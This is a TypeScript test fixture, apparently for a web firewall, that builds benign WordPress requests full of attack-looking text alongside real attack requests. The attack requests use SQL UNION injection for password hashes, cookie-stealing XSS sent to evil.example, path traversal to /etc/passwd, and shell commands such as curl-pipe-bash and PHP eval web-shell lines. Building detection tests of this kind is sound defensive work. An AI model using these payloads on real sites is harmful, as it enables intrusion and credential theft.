/** Requests as WordPress 6 sends them: by its editors, its dashboard and its visitors. Written from its forms and its REST API. */
import type { TrialRequest } from '../trial.ts'

export type Shape = { readonly name: string; readonly request: TrialRequest }

const host = 'blog.example'

/** A post with everything that looks like an attack and is none. */
const prose = [
  '<!-- wp:paragraph {"align":"center","style":{"color":{"text":"#112233"}}} -->',
  '<p class="has-text-align-center">To select items from the catalogue, where 1=1 -- and union members -- drop us a line; <a href="https://example.org/?a=1&amp;b=2" onclick="return true">here</a>.</p>',
  '<!-- /wp:paragraph -->',
  "<!-- wp:code --><pre class=\"wp-block-code\"><code>&lt;?php system($_GET[\"cmd\"]); ?&gt; SELECT * FROM users WHERE id = '1' OR '1'='1'; cat /etc/passwd | grep root; $(curl http://example.org/x.sh | bash)</code></pre><!-- /wp:code -->",
  '<!-- wp:html --><iframe src="https://www.youtube.com/embed/abc" width="560"></iframe><script>document.write("hello")</script><style>@import url(x.css);</style><!-- /wp:html -->',
].join('\n')

type Sent = {
  readonly method?: string
  readonly uri: string
  readonly type?: string
  readonly body?: string
  readonly headers?: readonly (readonly [string, string])[]
}

export function wordpressRequest({
  method,
  uri,
  type,
  body = '',
  headers = [],
}: Sent): TrialRequest {
  const bytes = Buffer.from(body, 'utf8').toString('latin1')
  return {
    id: '018f0000-0000-7000-8000-000000000000',
    at_ms: Date.UTC(2026, 0, 1),
    client: '192.0.2.7',
    method: method ?? (body === '' ? 'GET' : 'POST'),
    uri,
    http_version: '1.1',
    headers: [
      ['Host', host],
      ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
      ['Accept', 'application/json, */*;q=0.1'],
      ['Accept-Language', 'en-US,en;q=0.5'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Referer', `https://${host}/wp-admin/post.php?post=123&action=edit`],
      [
        'Cookie',
        'wordpress_logged_in_0123456789abcdef=editor%7C1800000000%7Cq1w2e3r4t5%7C0a1b2c3d; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26hidetb%3D1; wp-settings-time-1=1800000000; wordpress_test_cookie=WP%20Cookie%20check',
      ],
      ...headers,
      ...(bytes === ''
        ? []
        : ([
            ['Content-Type', type ?? 'application/x-www-form-urlencoded; charset=UTF-8'],
            ['Content-Length', String(bytes.length)],
            ['Origin', `https://${host}`],
          ] as const)),
    ],
    body: bytes,
  }
}

const form = (fields: Readonly<Record<string, string>>) => new URLSearchParams(fields).toString()
const json = (value: unknown) => ({ type: 'application/json', body: JSON.stringify(value) })
const override = (method: string) => [['X-HTTP-Method-Override', method]] as const

const sent: readonly (readonly [name: string, sent: Sent])[] = [
  [
    'the block editor saves a post',
    {
      uri: '/wp-json/wp/v2/posts/123?_locale=user',
      headers: override('PUT'),
      ...json({
        id: 123,
        title: "Don't <em>miss</em>; select * from us",
        content: prose,
        excerpt: prose,
        slug: 'a-b',
        meta: { footnotes: '[{"content":"<a href=\\"#\\">x</a>","id":"1"}]' },
      }),
    },
  ],
  [
    'the block editor saves a page with PUT',
    {
      method: 'PUT',
      uri: '/wp-json/wp/v2/pages/9',
      ...json({ content: prose, status: 'publish' }),
    },
  ],
  [
    'the block editor saves by itself',
    {
      uri: '/wp-json/wp/v2/posts/123/autosaves?_locale=user',
      ...json({ id: 123, content: prose, title: 'x' }),
    },
  ],
  ['a post is deleted', { method: 'DELETE', uri: '/wp-json/wp/v2/posts/123?force=true' }],
  [
    'a template is changed with PATCH',
    { method: 'PATCH', uri: '/wp-json/wp/v2/templates/theme//index', ...json({ content: prose }) },
  ],
  [
    'styles of the whole site are saved',
    {
      uri: '/wp-json/wp/v2/global-styles/7',
      headers: override('PUT'),
      ...json({
        id: 7,
        styles: {
          css: 'a:hover{background:url(https://example.org/x.png)}',
          typography: { fontFamily: 'var(--wp--preset--font-family--x)' },
        },
      }),
    },
  ],
  [
    'several things are saved at once',
    {
      uri: '/wp-json/batch/v1',
      ...json({
        validation: 'require-all-validate',
        requests: [
          {
            path: '/wp/v2/menu-items/5',
            method: 'PUT',
            body: { title: 'Home & <b>more</b>', url: 'https://example.org/?x=1' },
          },
        ],
      }),
    },
  ],
  [
    'an embed is looked up',
    {
      uri: '/wp-json/oembed/1.0/proxy?url=https%3A%2F%2Fwww.youtube.com%2Fwatch%3Fv%3Dabc&_locale=user',
    },
  ],
  [
    'a block is rendered',
    {
      uri: '/wp-json/wp/v2/block-renderer/core/rss?context=edit',
      ...json({ attributes: { feedURL: 'https://example.org/feed/?a=b', content: prose } }),
    },
  ],
  [
    'the classic editor saves a post',
    {
      uri: '/wp-admin/post.php',
      body: form({
        post_ID: '123',
        action: 'editpost',
        originalaction: 'editpost',
        post_title: "Don't; select",
        content: prose,
        excerpt: prose,
        _wp_http_referer: '/wp-admin/post.php?post=123&action=edit',
        _wp_original_http_referer: 'https://blog.example/wp-admin/edit.php?post_type=post&paged=1',
        referredby: 'https://blog.example/wp-admin/edit.php',
        'meta[7][value]': prose,
        metavalue: prose,
      }),
    },
  ],
  [
    'the heartbeat saves a draft',
    {
      uri: '/wp-admin/admin-ajax.php',
      body: form({
        action: 'heartbeat',
        interval: '60',
        _nonce: 'abc',
        'data[wp-refresh-post-lock][post_id]': '123',
        'data[wp_autosave][post_id]': '123',
        'data[wp_autosave][post_title]': "Don't",
        'data[wp_autosave][content]': prose,
        'data[wp_autosave][excerpt]': prose,
        screen_id: 'post',
        has_focus: 'true',
      }),
    },
  ],
  [
    'the customizer saves',
    {
      uri: '/wp-admin/admin-ajax.php',
      body: form({
        wp_customize: 'on',
        action: 'customize_save',
        customize_changeset_uuid: '9d2a',
        customize_changeset_data: JSON.stringify({
          custom_css: { value: 'a{background:url(https://x/y)}' },
          blogname: { value: prose },
        }),
        customized: JSON.stringify({ 'widget_text[2]': { raw: prose } }),
        nonce: 'abc',
      }),
    },
  ],
  [
    'the customizer shows a preview',
    {
      uri: '/2026/01/hello/?customize_changeset_uuid=9d2a&customize_theme=x',
      body: form({
        wp_customize: 'on',
        customized: JSON.stringify({ blogname: prose, custom_css: 'a{}' }),
        nonce: 'abc',
      }),
    },
  ],
  [
    'a theme file is edited',
    {
      uri: '/wp-admin/admin-ajax.php',
      body: form({
        nonce: 'a',
        action: 'edit-theme-plugin-file',
        file: 'functions.php',
        theme: 'mine',
        newcontent:
          '<?php\nfunction x() { $q = $wpdb->get_results("SELECT * FROM wp_posts WHERE 1=1"); echo shell_exec("ls -la /etc"); eval($_POST["x"]); }\n',
        docs_list: '',
      }),
    },
  ],
  [
    'a plugin file is edited without scripts',
    {
      uri: '/wp-admin/plugin-editor.php',
      body: form({
        nonce: 'a',
        _wp_http_referer: '/wp-admin/plugin-editor.php?file=hello.php&plugin=hello.php',
        newcontent: '<?php\nsystem("id"); include("../../wp-config.php");\n',
        action: 'update',
        file: 'hello.php',
        plugin: 'hello.php',
      }),
    },
  ],
  [
    'someone logs in with a strong password',
    {
      uri: '/wp-login.php',
      body: form({
        log: 'editor',
        pwd: "' OR 1=1--<script>alert(1)</script>;cat /etc/passwd",
        rememberme: 'forever',
        'wp-submit': 'Log In',
        redirect_to: 'https://blog.example/wp-admin/',
        testcookie: '1',
      }),
    },
  ],
  [
    'a user sets a new password',
    {
      uri: '/wp-admin/profile.php',
      body: form({
        user_id: '1',
        email: 'a@b.example',
        url: 'https://example.org/~me/',
        pass1: "$(rm -rf /)'; DROP TABLE x; --",
        pass2: "$(rm -rf /)'; DROP TABLE x; --",
        description: "I'm here; select me",
        action: 'update',
        _wp_http_referer: '/wp-admin/profile.php?wp_http_referer=%2Fwp-admin%2Fusers.php',
      }),
    },
  ],
  [
    'a visitor comments about SQL',
    {
      uri: '/wp-comments-post.php',
      body: form({
        comment:
          "To find it: select name from users where id = 1 or '1'='1'; then run `ls -la` and cat /etc/hosts",
        author: "Pat O'Hara",
        email: 'pat@example.org',
        url: 'https://example.org/~pat/?x=1',
        submit: 'Post Comment',
        comment_post_ID: '1',
        comment_parent: '0',
      }),
    },
  ],
  [
    'permalinks are set',
    {
      uri: '/wp-admin/options-permalink.php',
      body: form({
        selection: '/%year%/%monthnum%/%day%/%postname%/',
        permalink_structure: '/%year%/%monthnum%/%day%/%postname%/',
        category_base: '',
        _wp_http_referer: '/wp-admin/options-permalink.php',
      }),
    },
  ],
  [
    'discussion settings are saved',
    {
      uri: '/wp-admin/options.php',
      body: form({
        option_page: 'discussion',
        action: 'update',
        moderation_keys: 'viagra\n<script\nunion select\n/etc/passwd',
        disallowed_keys: "' or 1=1",
        ping_sites: 'https://rpc.pingomatic.com/',
        _wp_http_referer: '/wp-admin/options-discussion.php?settings-updated=true',
      }),
    },
  ],
  [
    'a menu is saved',
    {
      uri: '/wp-admin/nav-menus.php?menu=2',
      body: form({
        action: 'update',
        menu: '2',
        'menu-item-url[12]': 'https://example.org/?a=1&b=2',
        'menu-item-title[12]': 'Home & <b>more</b>',
        'nav-menu-data': '[{"name":"menu-item-url[12]","value":"https://example.org/?a=1"}]',
        'menu-name': "Pat's",
      }),
    },
  ],
  [
    'a text widget is saved',
    {
      uri: '/wp-admin/admin-ajax.php',
      body: form({
        action: 'save-widget',
        'widget-text[2][text]': prose,
        'widget-custom_html[3][content]': prose,
        'widget-id': 'text-2',
        sidebar: 'sidebar-1',
      }),
    },
  ],
  [
    'a picture gets a caption',
    {
      uri: '/wp-json/wp/v2/media/55',
      headers: override('POST'),
      ...json({ alt_text: 'Pat\'s "select" from <b>', caption: prose, description: prose }),
    },
  ],
  [
    'the dashboard loads its scripts',
    {
      uri: '/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils,wp-hooks,wp-i18n,wp-dom-ready,wp-a11y,json2,underscore,wp-util,moxiejs,plupload&ver=6.8',
    },
  ],
  [
    'posts are listed and searched',
    {
      uri: '/wp-admin/edit.php?s=select+something&post_status=all&post_type=post&_wpnonce=a1&_wp_http_referer=%2Fwp-admin%2Fedit.php&action=-1&m=0&cat=0&paged=1',
    },
  ],
  ['cron runs', { uri: '/wp-cron.php?doing_wp_cron=1800000000.1234560012817382812500' }],
]

export const honestShapes: readonly Shape[] = sent.map(([name, one]) => ({
  name,
  request: wordpressRequest(one),
}))

/** Attacks in the same places, in other parameters. */
export const attackShapes: readonly Shape[] = (
  [
    [
      'SQL in the number of a post',
      {
        uri: "/wp-json/wp/v2/posts/123?_locale=user&orderby=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--",
        ...json({ content: 'x' }),
      },
    ],
    [
      'a script in a field that no editor has',
      {
        uri: '/wp-json/wp/v2/posts/123',
        ...json({ content: 'x', evil: '<script>alert(document.cookie)</script>' }),
      },
    ],
    [
      'SQL in admin-ajax',
      {
        uri: '/wp-admin/admin-ajax.php',
        body: form({
          action: 'plugin_search',
          id: "1' UNION SELECT 1,user_pass,3 FROM wp_users-- -",
        }),
      },
    ],
    [
      'a file of the system by admin-ajax',
      { uri: '/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../etc/passwd' },
    ],
    [
      'SQL in the name of who logs in',
      {
        uri: '/wp-login.php',
        body: form({ log: "admin' UNION SELECT 1,2,3 FROM wp_users-- -", pwd: 'x' }),
      },
    ],
    [
      'a script in a comment',
      {
        uri: '/wp-comments-post.php',
        body: form({
          comment: '<script>document.location="https://evil.example/?"+document.cookie</script>',
          author: 'x',
        }),
      },
    ],
    [
      'a script in the name of a commenter',
      {
        uri: '/wp-comments-post.php',
        body: form({ comment: 'x', author: '<script>alert(1)</script>' }),
      },
    ],
    ['a command in a plugin', { uri: '/wp-content/plugins/x/run.php?cmd=;cat%20/etc/passwd' }],
    [
      'the editor’s parameter on another path',
      {
        uri: '/wp-content/plugins/x/save.php',
        body: form({
          content: "1' UNION SELECT user_pass FROM wp_users-- -<script>alert(1)</script>",
        }),
      },
    ],
    [
      'a way around by dots',
      {
        uri: '/wp-admin/post.php/../../x.php',
        body: form({ content: '<script>alert(document.cookie)</script>' }),
      },
    ],
    ['a method that nobody needs', { method: 'TRACE', uri: '/wp-json/wp/v2/posts' }],
    ['DELETE elsewhere', { method: 'DELETE', uri: '/wp-admin/post.php' }],
  ] satisfies readonly (readonly [string, Sent])[]
).map(([name, one]) => ({ name, request: wordpressRequest(one) }))
